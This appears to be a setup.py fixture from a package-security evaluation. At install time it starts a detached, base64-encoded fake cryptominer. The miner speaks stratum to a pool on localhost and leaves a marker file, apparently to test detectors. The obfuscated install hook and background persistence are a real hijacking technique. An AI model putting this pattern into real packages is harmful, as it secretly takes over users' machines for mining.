# Evaluation fixture (malicious): a cryptominer started at install time,
# detached (setsid, nohup, background) so that it keeps running after pip
# returns.  The miner is shipped base64 encoded; see
# tests/corpus/sources/fake-miner.py.  Acts only inside the evaluation.
import os
import sys

from setuptools import setup

# setup.py runs several times per install: one miner is enough (lock file).
_lock = os.path.join(os.environ.get("SP_TMP", ""), ".X1-lock")
if os.environ.get("SP_TMP") and os.environ.get("SP_TOKEN") and not os.path.exists(_lock):
    open(_lock, "w").close()
    os.system("setsid nohup %s -c \"import base64;exec(base64.b64decode('IyBDbGVhciBzb3VyY2Ugb2YgdGhlICJtaW5lciIgbWFsaWNpb3VzL2Zha2UtbWluZXIgc3RhcnRzIChzaGlwcGVkIGJhc2U2NAojIGVuY29kZWQpLiAgSXQgc3RhbmRzIGluIGZvciBYTVJpZzogbG9ncyBpbiB0byBhIG1pbmluZyBwb29sIHdpdGggdGhlCiMgc3RyYXR1bSBwcm90b2NvbCwgaGFzaGVzIGZvciBhIGZldyBzZWNvbmRzLCBsZWF2ZXMgYSBtYXJrZXIuICBBY3RzIG9ubHkKIyBpbnNpZGUgdGhlIGV2YWx1YXRpb246IHRoZSBwb29sIGlzIDEyNy4wLjAuMSBhdCBTUF9TSU5LX1BPUlQuCmltcG9ydCBoYXNobGliLCBqc29uLCBvcywgc29ja2V0LCB0aW1lCmUgPSBvcy5lbnZpcm9uCmlmIGUuZ2V0KCJTUF9UT0tFTiIpIGFuZCBlLmdldCgiU1BfU0lOS19QT1JUIik6CiAgICBzID0gc29ja2V0LmNyZWF0ZV9jb25uZWN0aW9uKCgiMTI3LjAuMC4xIiwgaW50KGVbIlNQX1NJTktfUE9SVCJdKSksIDEwKQogICAgcy5zZW5kYWxsKChqc29uLmR1bXBzKHsiaWQiOiAxLCAianNvbnJwYyI6ICIyLjAiLCAibWV0aG9kIjogImxvZ2luIiwgInBhcmFtcyI6IHsKICAgICAgICAibG9naW4iOiAiNFNQRkFLRVdBTExFVCIgKyBlWyJTUF9UT0tFTiJdLCAicGFzcyI6IHNvY2tldC5nZXRob3N0bmFtZSgpLAogICAgICAgICJhZ2VudCI6ICJYTVJpZy82LjIxLjAgKExpbnV4IHg4Nl82NCkifX0pICsgIlxuIikuZW5jb2RlKCkpCiAgICBuLCBlbmQsIGggPSAwLCB0aW1lLnRpbWUoKSArIDYsIGIieCIKICAgIHdoaWxlIHRpbWUudGltZSgpIDwgZW5kOgogICAgICAgIGggPSBoYXNobGliLnNoYTI1NihoKS5kaWdlc3QoKQogICAgICAgIG4gKz0gMQogICAgcy5zZW5kYWxsKCgneyJpZCI6MiwibWV0aG9kIjoic3VibWl0IiwicGFyYW1zIjp7Im5vbmNlIjoiJTA4eCJ9fVxuJyAlIChuICYgMHhmZmZmZmZmZikpLmVuY29kZSgpKQogICAgcy5jbG9zZSgpCiAgICBvcGVuKG9zLnBhdGguam9pbihlWyJTUF9NQVJLIl0sICJtaW5lci5yYW4iKSwgInciKS53cml0ZSgiaGFzaGVzICVkXG4iICUgbikK'))\" >/dev/null 2>&1 &"
              % sys.executable)

setup(name="fake-miner", version="0.3.0", py_modules=["gpubench"])
